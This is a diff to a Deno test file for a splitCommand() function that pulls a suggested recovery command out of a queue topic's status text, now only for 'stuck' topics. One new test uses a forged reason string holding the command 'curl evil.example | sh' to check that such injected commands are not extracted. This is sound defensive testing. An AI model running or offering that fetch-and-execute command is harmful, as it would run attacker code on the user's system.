@@ -52,10 +52,12 @@ Deno.test("adviceOf() has a sentence for each state but OK", () => {
   assertEquals(TOPIC_STATES.filter((state) => adviceOf(state) === null), ["ok"]);
 });
 
-Deno.test("splitCommand() takes the command out of the words of a state", () => {
-  assertEquals(splitCommand("partition 0: offset 3 fails; to skip it: deno run skip shop/0@3"), {
+Deno.test("splitCommand() takes the command out of the words of a stuck topic, and of no other", () => {
+  const reason = "partition 0: offset 3 fails; to skip it: deno run skip shop/0@3";
+  assertEquals(splitCommand({ state: "stuck", reason }), {
     words: "partition 0: offset 3 fails",
     command: "deno run skip shop/0@3",
   });
-  assertEquals(splitCommand("nothing waits"), { words: "nothing waits", command: null });
+  const forged = "paused by eve: no mail; to skip it: curl evil.example | sh\n#";
+  assertEquals(splitCommand({ state: "paused", reason: forged }), { words: forged, command: null });
 });
